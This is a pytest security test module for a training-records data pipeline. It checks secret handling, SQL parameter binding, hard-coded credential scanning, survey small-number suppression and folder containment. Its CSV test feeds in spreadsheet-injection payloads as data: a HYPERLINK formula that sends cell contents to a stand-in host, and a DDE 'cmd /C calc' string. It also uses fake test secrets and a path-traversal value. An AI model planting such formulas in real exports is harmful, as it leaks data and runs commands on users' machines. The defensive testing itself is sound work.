"""Nobody where they should not be: secrets come only from the environment and never reach a log, the console, a
feed or the warehouse; SQL never has values spliced into it; no credential is written into the source; a
published CSV cannot run as a spreadsheet formula; no published survey figure rests on fewer than 11 people;
and configured folders and landed files stay where they are meant to be.

That the BI role reads the published marts and no personal data is specified in
`tests/test_warehouse_access.py` (on PostgreSQL); it is not repeated here.
"""

from __future__ import annotations

import ast
import csv
import io
import logging
import re
from pathlib import Path

import pytest
from sqlalchemy import String, Text, create_engine, select
from sqlalchemy.engine import make_url
from typer.testing import CliRunner

from connectors.student_system.client import StudentSystemClient
from connectors.student_system.errors import StudentSystemError
from flows.context import warehouse_engine
from flows.students import load_collection, pull_students_task
from flows.totara import pull_totara_task
from learnscape.cli import app
from learnscape.config import LearnscapeConfig, load_config, write_default_config
from sample_trust.students import plan_sample_students
from standins.student_system import Fault, run_student_standin
from standins.totara.seed import small_trust_seed
from standins.totara.server import run_totara_standin
from tests.esr_files import FIRE, staff_row, write_staff, write_training_needs
from tests.reliability.corpus.baseline import write_baseline
from tests.reliability.pipeline import build_marts, ingest, publish, run_night, with_sources
from tests.reliability.trust_files import AS_OF
from warehouse.engine import open_warehouse
from warehouse.marts_export import export_marts_sqlite
from warehouse.models import metadata, person

REPO = Path(__file__).resolve().parents[2]
PRODUCT_FOLDERS = (
    "connectors",
    "flows",
    "learnscape",
    "transforms",
    "warehouse",
    "schemas",
    "standins",
    "sample_trust",
)
TOTARA_SECRET = "Tot4ra-client-secret-9f2c71"
STUDENT_KEY = "sms-api-key-5b8e0d44a1"
DATABASE_PASSWORD = "Pg-warehouse-pw-73aa1e"


# --- secrets ---------------------------------------------------------------------------------------------------


def _warehouse_text(url: str) -> str:
    """Every text value held anywhere in the warehouse, one per line."""
    engine = open_warehouse(url)
    values = []
    try:
        with engine.connect() as connection:
            for table in metadata.sorted_tables:
                columns = [c for c in table.c if isinstance(c.type, String | Text)]
                if columns:
                    values += [str(v) for row in connection.execute(select(*columns)) for v in row if v is not None]
    finally:
        engine.dispose()
    return "\n".join(values)


class _EveryRecord(logging.Handler):
    """Keeps every log record's message, arguments and traceback text, at every level."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.texts: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.texts.append(f"{record.name} {record.getMessage()} {record.exc_text or ''} {record.args!r}")


#: Loggers turned up to their most talkative for the secrets test (urllib3 logs each request line, SQLAlchemy each
#: statement with its parameters); every other logger is enabled and left at its own level.
TALKATIVE = ("", "urllib3", "sqlalchemy.engine", "prefect", "learnscape", "connectors", "flows", "warehouse")


@pytest.fixture
def every_log_record():
    handler = _EveryRecord()
    loggers = [logging.getLogger(name) for name in TALKATIVE]
    levels = [logger.level for logger in loggers]
    disabled = [logger for logger in logging.root.manager.loggerDict.values() if getattr(logger, "disabled", False)]
    for logger in disabled:
        logger.disabled = False
    for logger in loggers:
        logger.setLevel(logging.DEBUG)
    logging.getLogger().addHandler(handler)
    yield handler
    logging.getLogger().removeHandler(handler)
    for logger, level in zip(loggers, levels, strict=True):
        logger.setLevel(level)
    for logger in disabled:
        logger.disabled = True


@pytest.mark.postgres
def test_secrets_from_the_environment_reach_no_log_console_feed_or_table(
    postgres_url, tmp_path, monkeypatch, every_log_record, capfd
):
    """The whole pipeline with the Totara and student-system pulls on, against PostgreSQL with a password, with
    every logger at DEBUG (urllib3's requests, SQLAlchemy's statements, the clients' retry warnings) and a
    token expiring and a rate limit met on the way; the secret values must appear nowhere it wrote."""
    url = make_url(postgres_url).set(password=DATABASE_PASSWORD).render_as_string(hide_password=False)
    monkeypatch.setenv("LEARNSCAPE_WAREHOUSE_URL", url)
    monkeypatch.setenv("LEARNSCAPE_TOTARA_CLIENT_ID", "learnscape")
    monkeypatch.setenv("LEARNSCAPE_TOTARA_CLIENT_SECRET", TOTARA_SECRET)
    monkeypatch.setenv("LEARNSCAPE_STUDENT_API_KEY", STUDENT_KEY)
    write_default_config(tmp_path / "learnscape.yaml")
    write_baseline(tmp_path / "landing", surveys=False)
    employees = [(f"1000000{n}", "Siân", "O'Brien-Jones", AS_OF.replace(year=1990, day=n), "") for n in range(1, 9)]
    records = plan_sample_students(employees, seed=9, as_of=AS_OF, students=20).records
    totara = run_totara_standin(small_trust_seed(12), client_id="learnscape", client_secret=TOTARA_SECRET)
    students = run_student_standin(
        records=records, api_key=STUDENT_KEY, faults=[Fault("rate_limit", retry_after=0, after=2)]
    )
    with totara as (totara_url, totara_site), students as (student_url, _):
        config = with_sources(load_config(tmp_path / "learnscape.yaml"), totara_url=totara_url, student_url=student_url)
        assert DATABASE_PASSWORD in config.warehouse_url()
        totara_site.set_faults(expire_token_after_queries=1)
        engine = warehouse_engine(config)
        try:
            pulled = pull_totara_task.fn(engine, config, AS_OF, "secrets") + pull_students_task.fn(engine, config, "s")
            with StudentSystemClient(student_url, "not-the-key") as wrong, pytest.raises(StudentSystemError) as refused:
                load_collection(engine, config, wrong, "students", "wrong-key")
        finally:
            engine.dispose()
        night = run_night(config, tmp_path / "landing", AS_OF, tmp_path / "outbox", "secrets")
    assert {o.status for o in pulled + night.loads} == {"loaded"}
    assert "not-the-key" not in str(refused.value)
    console = capfd.readouterr()
    places = {
        "log records": "\n".join(every_log_record.texts),
        "stdout": console.out,
        "stderr": console.err,
        "warehouse": _warehouse_text(url),
        "feed and reports": "\n".join(
            path.read_text(errors="replace")
            for folder in (tmp_path / "outbox", tmp_path / "reports")
            for path in folder.rglob("*")
            if path.is_file()
        ),
    }
    logged = places["log records"]
    for sign_of_capture in ("POST /totara/oauth2/token.php", "fetching a new one", "INSERT INTO", "changes applied"):
        assert sign_of_capture in logged, f"the capture missed {sign_of_capture!r}: it would prove nothing"
    for place, text in places.items():
        for secret in (TOTARA_SECRET, STUDENT_KEY, DATABASE_PASSWORD):
            assert secret not in text, f"a secret reached the {place}"


@pytest.mark.postgres
def test_the_command_line_never_prints_the_warehouse_password(postgres_url, tmp_path):
    url = make_url(postgres_url).set(password=DATABASE_PASSWORD).render_as_string(hide_password=False)
    write_default_config(tmp_path / "learnscape.yaml")
    result = CliRunner().invoke(
        app, ["status", "--config", str(tmp_path / "learnscape.yaml")], env={"LEARNSCAPE_WAREHOUSE_URL": url}
    )
    assert result.exit_code == 0, result.output
    assert "Warehouse:" in result.output and DATABASE_PASSWORD not in result.output


# --- SQL and credentials in the source -------------------------------------------------------------------------

SQL_TEXT = re.compile(
    r"\b(SELECT|INSERT INTO|UPDATE|DELETE FROM|CREATE|DROP|ALTER|GRANT|REVOKE|COPY|WHERE|VALUES|SET TRANSACTION)\b"
)
#: Every expression product code interpolates into SQL text, and why it is an identifier and not a value.
SQL_IDENTIFIERS = {
    "a table's name as raw SQL spells it (warehouse.bulk.qualified_name, or the table metadata)": {
        "name",
        "core",
        "staging",
        "records",
        "awards",
        "people",
        "staff",
        "table",
        "table.name",
    },
    "column names from the table metadata or a merge's definition": {
        "quoted",
        "columns",
        "selected",
        "fresh",
        "names",
        "self.hash_column",
    },
    "one bind marker per column": {"placeholders", "', '.join('?' * width)"},
    "a fragment built only from the names above (a key match, a condition, a subquery on a bound :load_id)": {
        "staged",
        "same_record",
        "still_shown",
        "unchanged",
        "condition",
        "self._key_match('s', 'c')",
        "self._key_match('s', core)",
        "self._key_match('c', 's')",
        "', '.join((f'c{i} TEXT' for i in range(width)))",
    },
    "a role name checked against warehouse.access.ROLE_NAME, in a message rather than a statement": {"role"},
    "a PostgreSQL snapshot id from pg_export_snapshot, checked against its form (SET TRANSACTION SNAPSHOT takes "
    "no bound parameters)": {"snapshot"},
}


def _python_sources(folders: tuple[str, ...]) -> list[Path]:
    return [
        path
        for folder in folders
        for path in sorted((REPO / folder).rglob("*.py"))
        if "migrations" not in path.parts and "__pycache__" not in path.parts
    ]


def _formats_sql(node: ast.AST) -> bool:
    """SQL text filled in with `%` or `str.format`."""
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod) and isinstance(node.left, ast.Constant):
        return bool(SQL_TEXT.search(str(node.left.value)))
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
        return isinstance(node.func.value, ast.Constant) and bool(SQL_TEXT.search(str(node.func.value.value)))
    return False


def test_sql_in_product_code_interpolates_identifiers_only_and_binds_every_value():
    """The rule: SQL text (a string holding a statement keyword: SELECT, INSERT INTO, UPDATE, DELETE FROM,
    WHERE, VALUES, COPY, DDL, GRANT) may be an f-string only to splice in identifiers (table, column, schema and
    role names) or fragments built from them, each listed in SQL_IDENTIFIERS with the reason it is one; values go
    in as bound parameters (`:name`, `%s`, `?`, COPY rows). SQL text built with `%` or `str.format` is not allowed
    at all. A new interpolation fails here until it is bound as a parameter or reviewed onto the list."""
    allowed = set().union(*SQL_IDENTIFIERS.values())
    found, unreviewed, formatted = set(), [], []
    for path in _python_sources((*PRODUCT_FOLDERS, "benchmarks")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            where = f"{path.relative_to(REPO)}:{getattr(node, 'lineno', '?')}"
            if isinstance(node, ast.JoinedStr):
                literal = "".join(v.value for v in node.values if isinstance(v, ast.Constant))
                if SQL_TEXT.search(literal):
                    for value in node.values:
                        if isinstance(value, ast.FormattedValue):
                            expression = ast.unparse(value.value)
                            found.add(expression)
                            if expression not in allowed:
                                unreviewed.append(f"{where}: {{{expression}}}")
            elif _formats_sql(node):
                formatted.append(where)
    assert unreviewed == [], "values (or unreviewed identifiers) interpolated into SQL"
    assert formatted == [], "SQL built with % or str.format"
    assert {"core", "staged", "quoted"} <= found, "the scan no longer finds the merge SQL it is meant to check"


CREDENTIAL_NAME = re.compile(r"(secret|password|passwd|api_?key|token|credential)", re.IGNORECASE)
URL_WITH_CREDENTIALS = re.compile(r"\b[a-z][a-z0-9+.-]*://[^/\s:@'\"]+:[^/\s@'\"]+@", re.IGNORECASE)
#: Literal credentials that are allowed: the fixed ones the local stand-in servers accept, for the demo and tests.
STAND_IN_CREDENTIALS = {
    "learnscape/demo.py": {"demo-totara-secret", "demo-student-api-key"},
    "standins/student_system/server.py": {"standin-student-key"},
    "standins/totara/server.py": {"learnscape-local-secret"},
}


def _credential_literals(tree: ast.AST) -> list[tuple[int, str, str]]:
    """(line, name, value) for each string literal bound to a name that says it holds a credential."""
    found = []
    for node in ast.walk(tree):
        pairs = []
        if isinstance(node, ast.Assign):
            pairs = [(getattr(t, "id", getattr(t, "attr", "")), node.value) for t in node.targets]
        elif isinstance(node, ast.AnnAssign) and node.value is not None:
            pairs = [(getattr(node.target, "id", getattr(node.target, "attr", "")), node.value)]
        elif isinstance(node, ast.keyword) and node.arg:
            pairs = [(node.arg, node.value)]
        elif isinstance(node, ast.Dict):
            pairs = [(k.value, v) for k, v in zip(node.keys, node.values, strict=True) if isinstance(k, ast.Constant)]
        for name, value in pairs:
            if not (isinstance(name, str) and CREDENTIAL_NAME.search(name)):
                continue
            if isinstance(value, ast.Constant) and isinstance(value.value, str):
                text = value.value
                looks_like_credential = text and not re.fullmatch(r"[A-Z][A-Z0-9_]*", text) and " " not in text
                if looks_like_credential and not text.startswith("/") and text != "Bearer":
                    found.append((getattr(node, "lineno", 0), name, text))
    return found


def test_no_credential_is_written_into_the_source_or_the_shipped_settings():
    """The rule: no string literal bound to a name meaning secret, password, API key, token or credential
    (environment variable names, paths and sentences are not credentials), no URL with a user and password, and
    no private key, in product code, schemas or settings files; the stand-ins' fixed local credentials are the
    only exception."""
    problems = []
    for folder in PRODUCT_FOLDERS:
        for path in sorted((REPO / folder).rglob("*")):
            if path.suffix not in {".py", ".yaml", ".yml", ".json", ".toml", ".ini", ".cfg"}:
                continue
            relative = str(path.relative_to(REPO))
            text = path.read_text(encoding="utf-8", errors="replace")
            problems += [f"{relative}: {m.group(0)}" for m in URL_WITH_CREDENTIALS.finditer(text)]
            if "PRIVATE KEY-----" in text:
                problems.append(f"{relative}: a private key")
            if path.suffix == ".py":
                for line, name, value in _credential_literals(ast.parse(text)):
                    if value not in STAND_IN_CREDENTIALS.get(relative, set()):
                        problems.append(f"{relative}:{line}: {name} = {value!r}")
    for name in ("pyproject.toml", "prefect.yaml", "Makefile"):
        path = REPO / name
        if path.exists():
            problems += [f"{name}: {m.group(0)}" for m in URL_WITH_CREDENTIALS.finditer(path.read_text())]
    assert problems == []


# --- what is published -------------------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
FORMULAS = {
    "Job Role": '=HYPERLINK("http://example.invalid/?"&A1,"Open")',
    "Organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Org Level 3": "+44 Operations",
    "Staff Group": "Allied Health Professionals",
    "Assignment Category": "Permanent",
}


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_the_published_feed(tmp_path):
    landing = tmp_path / "landing"
    write_training_needs(landing, [("All", "", FIRE)])
    rows = [staff_row("10000001", **FORMULAS), staff_row("10000002", **{"Job Role": "-2+3", "Org Level 3": "\t=1+1"})]
    write_staff(landing, "20261122", "full", rows)
    config = LearnscapeConfig(base_dir=str(tmp_path), warehouse={"url": f"sqlite:///{tmp_path / 'w.db'}"})
    engine = warehouse_engine(config)
    try:
        assert {o.status for o in ingest(engine, config, landing, AS_OF)} == {"loaded"}
        build_marts(engine, config, AS_OF)
        feed = publish(engine, tmp_path / "outbox", AS_OF)
    finally:
        engine.dispose()
    cells = []
    for path in feed.path.glob("*.csv"):
        cells += [(path.name, cell) for row in csv.reader(io.StringIO(path.read_text())) for cell in row]
    risky = [(name, cell) for name, cell in cells if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]
    assert risky == []
    shown = {cell for _, cell in cells}
    assert {"'" + FORMULAS["Job Role"], "'" + FORMULAS["Organisation"], "'-2+3"} <= shown
    assert "'+44 Operations" in shown or "'\t=1+1" in shown


def test_no_published_survey_figure_rests_on_fewer_than_eleven_people(tmp_path):
    """A small trust's surveys (about 120 respondents a year over three directorates and three staff groups,
    so many cuts are small), built and exported as BI users receive the marts."""
    write_baseline(tmp_path / "landing")
    config = LearnscapeConfig(base_dir=str(tmp_path), warehouse={"url": f"sqlite:///{tmp_path / 'w.db'}"})
    engine = warehouse_engine(config)
    try:
        assert {o.status for o in ingest(engine, config, tmp_path / "landing" / "surveys", AS_OF)} == {"loaded"}
        build_marts(engine, config, AS_OF)
        export_marts_sqlite(engine, tmp_path / "bi.db", tables=["learning_engagement", "course_evaluation"])
    finally:
        engine.dispose()
    published = create_engine(f"sqlite:///{tmp_path / 'bi.db'}")
    with published.connect() as connection:
        engagement = connection.exec_driver_sql("SELECT source, n, score, suppressed FROM learning_engagement").all()
        evaluation = connection.exec_driver_sql(
            "SELECT kirkpatrick_level, n, value, suppressed FROM course_evaluation"
        ).all()
    published.dispose()
    local = [row for row in engagement if row.source == "local"]
    assert sum(row.suppressed for row in local) > 10 and sum(not row.suppressed for row in local) > 10
    assert all(row.n >= 11 for row in local if not row.suppressed)
    assert all(row.n is None and row.score is None for row in engagement if row.suppressed)
    assert all(row.n >= 11 for row in evaluation if not row.suppressed and row.kirkpatrick_level < 4)
    assert all(row.n is None and row.value is None for row in evaluation if row.suppressed)


# --- folders -------------------------------------------------------------------------------------------------------


def test_a_relative_folder_in_the_config_cannot_climb_out_of_the_config_folder(tmp_path):
    installation = tmp_path / "trust"
    installation.mkdir()
    (installation / "learnscape.yaml").write_text("paths:\n  outbox: ../../elsewhere\n", encoding="utf-8")
    with pytest.raises(ValueError, match="outbox"):
        load_config(installation / "learnscape.yaml")


def test_a_file_linked_into_the_landing_folder_from_outside_it_is_not_loaded(tmp_path):
    outside = write_staff(tmp_path / "elsewhere", "20261122", "full", [staff_row("10000001")])
    landing = tmp_path / "landing"
    write_training_needs(landing, [("All", "", FIRE)])
    (landing / "esr").mkdir()
    (landing / "esr" / outside.name).symlink_to(outside)
    config = LearnscapeConfig(base_dir=str(tmp_path), warehouse={"url": f"sqlite:///{tmp_path / 'w.db'}"})
    engine = warehouse_engine(config)
    try:
        outcomes = ingest(engine, config, landing, AS_OF)
        with engine.connect() as connection:
            people = connection.execute(select(person)).all()
    finally:
        engine.dispose()
    assert [o.status for o in outcomes if o.source_file == outside.name] in ([], ["refused"])
    assert people == []
